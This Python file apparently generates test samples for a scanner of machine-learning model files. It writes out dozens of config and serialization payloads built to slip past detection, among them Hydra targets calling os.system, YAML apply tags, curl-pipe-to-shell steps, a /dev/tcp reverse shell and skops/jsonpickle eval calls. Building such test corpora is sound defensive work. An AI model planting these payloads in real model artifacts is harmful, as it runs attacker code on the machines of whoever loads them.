"""Wave 2. Configurations whose text is not what their loader reads, and loaders that are less known."""

import json
from collections.abc import Iterator

from .archives import Member, tar_of, zip_of
from .carried import EVIL
from .configurations import IMPORTED
from .repositories import BODIES, CARD, TENSORS
from .sample import CODE, COMMAND, HOST, MARKER, URL, Sample

__all__ = ["samples"]


def _targets() -> Iterator[tuple[str, dict[str, bytes]]]:
    def yaml(text: str) -> dict[str, bytes]:
        return {"config.yaml": text.encode(), "model.safetensors": TENSORS}

    yield "flow style", yaml(f"lr: 0.1\nhook: {{_target_: subprocess.run, args: [touch, {MARKER}]}}\n")
    yield "folded scalar", yaml(f"hook:\n  _target_: >-\n    os.system\n  command: {COMMAND}\n")
    yield "merged from a base", yaml(f"base: &b\n  _target_: os.system\nhook:\n  <<: *b\n  command: {COMMAND}\n")
    yield "string tag", yaml(f"hook:\n  _target_: !!str os.system\n  command: {COMMAND}\n")
    yield "explicit key", yaml(f"hook:\n  ? _target_\n  : os.popen\n  cmd: {COMMAND}\n")
    yield (
        "escaped in JSON",
        {"config.json": f'{{"h": {{"_t\\u0061rget_": "o\\u0073.system", "command": "{COMMAND}"}}}}'.encode()},
    )
    yield "through a module's module", yaml(f"hook:\n  _target_: shutil.os.system\n  command: {COMMAND}\n")
    yield (
        "through a library's import",
        yaml(f"hook:\n  _target_: torch.utils.collect_env.subprocess.getoutput\n  cmd: {COMMAND}\n"),
    )
    yield (
        "fortieth of forty",
        yaml(
            "".join(f"m{n}:\n  _target_: torch.nn.Linear\n  in_features: {n}\n" for n in range(1, 40))
            + (f'm40:\n  _target_: builtins.exec\n  _args_: ["{CODE}"]\n')
        ),
    )
    yield (
        "list of callbacks",
        yaml(
            f"callbacks:\n  - _target_: lightning.pytorch.callbacks.EarlyStopping\n    monitor: loss\n"
            f"  - _target_: runpy.run_path\n    path_name: {URL}/x.py\n"
        ),
    )
    yield (
        "Lightning's class_path",
        yaml(f"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [touch, {MARKER}]\n"),
    )
    yield (
        "class_path in JSON",
        {
            "cli.json": json.dumps(
                {"trainer": {"callbacks": [{"class_path": "os.system", "init_args": {"command": COMMAND}}]}}
            ).encode()
        },
    )
    yield "MMEngine's type", yaml(f"model:\n  type: subprocess.Popen\n  args: [touch, {MARKER}]\n")
    yield (
        "nemo, second document",
        {
            "m.nemo": tar_of(
                {"model_config.yaml": f"a: 1\n---\nb:\n  _target_: os.system\n  command: {COMMAND}\n".encode()}
            )
        },
    )
    yield (
        "nemo, zip instead of tar",
        {
            "m.nemo": zip_of(
                Member("model_config.yaml", f"b: {{_target_: os.system, command: {COMMAND}}}\n".encode(), way=8)
            )
        },
    )


def _tags() -> Iterator[tuple[str, str, bytes]]:
    apply = f"a: !!python/object/apply:os.system ['{COMMAND}']\n"
    yield "UTF-16 with its mark", "config.yaml", apply.encode("utf-16")
    yield "UTF-8 with its mark", "hparams.yaml", b"\xef\xbb\xbf" + apply.encode()
    yield (
        "primary handle",
        "config.yaml",
        f"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['{COMMAND}']\n".encode(),
    )
    yield "after a hundred lines", "args.yaml", "".join(f"k{n}: {n}\n" for n in range(300)).encode() + apply.encode()
    yield "called .cfg", "model.cfg", apply.encode()
    yield (
        "flow, one line",
        "config.yml",
        f"{{lr: 0.1, cb: [!!python/object/apply:subprocess.check_output [[touch, {MARKER}]]]}}\n".encode(),
    )
    yield (
        "in the MLmodel",
        "MLmodel",
        f"flavors: {{}}\nmetadata: !!python/object/apply:os.system ['{COMMAND}']\n".encode(),
    )


def _mlflow() -> Iterator[tuple[str, dict[str, bytes]]]:
    flavour = (
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: "
        "mlflow.sklearn\n    model_path: m.pkl\n    env: python_env.yaml\n"
    )
    plain = b"\x80\x04}\x94."
    yield (
        "command within a dependency",
        {
            "MLmodel": flavour.encode(),
            "m.pkl": plain,
            "python_env.yaml": (f"python: 3.11.4\ndependencies:\n- numpy; curl {URL} | sh\n- scikit-learn\n".encode()),
        },
    )
    yield (
        "nested model is bad",
        {
            "MLmodel": flavour.encode(),
            "m.pkl": plain,
            "python_env.yaml": b"python: 3.11.4\n",
            "artifacts/inner/MLmodel": flavour.encode(),
            "artifacts/inner/m.pkl": EVIL,
        },
    )
    yield (
        "code path that is imported",
        {
            "MLmodel": (flavour + "    code: code\n").encode(),
            "m.pkl": plain,
            "code/prep/__init__.py": BODIES["imports by pieces"].encode(),
        },
    )


def _served() -> Iterator[tuple[str, dict[str, bytes]]]:
    inner = "".join(f"        {line}\n" for line in BODIES["runs a command"].splitlines())
    yield (
        "Triton's Python backend",
        {
            "config.pbtxt": b'name: "m"\nbackend: "python"\n',
            "1/model.py": (
                f"class TritonPythonModel:\n    def initialize(self, args):\n{inner}\n"
                f"    def execute(self, requests):\n        return []\n"
            ).encode(),
        },
    )
    yield (
        "SageMaker's inference code",
        {
            "code/inference.py": f"import subprocess\n\n\ndef model_fn(folder):\n    return "
            f"subprocess.check_output('curl {URL} | sh', shell=True)\n".encode(),
            "model.safetensors": TENSORS,
        },
    )
    yield (
        "BentoML's service",
        {"bentofile.yaml": b"service: 'service:svc'\n", "service.py": BODIES["opens a reverse shell"].encode()},
    )
    yield (
        "DVC's stage",
        {
            "dvc.yaml": f"stages:\n  fetch:\n    cmd: curl -s {URL} | bash\n    outs: [data]\n".encode(),
            "model.safetensors": TENSORS,
        },
    )
    yield (
        "Procfile",
        {"Procfile": f"web: bash -c 'bash -i >& /dev/tcp/{HOST}/443 0>&1'\n".encode(), "model.safetensors": TENSORS},
    )
    yield (
        "Cog's setup",
        {"cog.yaml": f"build:\n  run:\n    - curl -s {URL} | sh\npredict: predict.py:P\n".encode(), "README.md": CARD},
    )
    state = {
        "py/object": "sklearn.linear_model._base.LinearRegression",
        "py/state": {
            "py/object": "os._wrap_close",
            "hook": {"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["touch", MARKER]]}]},
        },
    }
    yield "jsonpickle, in a state", {"model.json": json.dumps(state).encode()}
    yield (
        "jsonpickle, function called",
        {"m.json": json.dumps({"py/object": "builtins.eval", "py/newargsex": [{"py/tuple": [IMPORTED]}, {}]}).encode()},
    )


def _skops() -> Iterator[tuple[str, bytes]]:
    def stored(node: dict[str, object]) -> bytes:
        return zip_of(
            Member("schema.json", json.dumps({"protocol": 2, "_skops_version": "0.12.0", **node}).encode(), way=8)
        )

    evaluated = {
        "__class__": "eval",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "__id__": 9,
        "content": {},
    }
    yield (
        "function eval among hyperparameters",
        stored(
            {
                "__class__": "FunctionTransformer",
                "__module__": "sklearn.preprocessing._function_transformer",
                "__loader__": "ObjectNode",
                "__id__": 1,
                "content": {
                    "__class__": "dict",
                    "__module__": "builtins",
                    "__loader__": "DictNode",
                    "key_types": {},
                    "content": {"func": evaluated},
                },
            }
        ),
    )
    yield (
        "type of subprocess",
        stored({"__class__": "Popen", "__module__": "subprocess", "__loader__": "TypeNode", "__id__": 1}),
    )
    loss = {
        "__class__": "Popen",
        "__module__": "subprocess",
        "__loader__": "SGDNode",
        "__id__": 1,
        "__reduce__": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        "content": {},
    }
    yield "loss function by a reduce", stored(loss)
    method = {
        "__class__": "method",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "__id__": 2,
        "content": {
            "func": "loads",
            "obj": {
                "__class__": "Unpickler",
                "__module__": "pickle",
                "__loader__": "ObjectNode",
                "__id__": 3,
                "content": {},
            },
        },
    }
    yield (
        "method of an unpickler",
        stored({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [method]}),
    )


def samples() -> Iterator[Sample]:
    for group, made in (
        ("hydra targets", _targets()),
        ("MLflow folders", _mlflow()),
        ("other configurations", _served()),
    ):
        for name, files in made:
            yield Sample(group, f"2: {name}", files, wave=2)
    for name, file, data in _tags():
        yield Sample("YAML tags", f"2: {name}", {file: data, "weights.csv": b"0.1,0.2\n"}, wave=2)
    for name, data in _skops():
        yield Sample("skops files", f"2: {name}", {"model.skops": data}, wave=2)
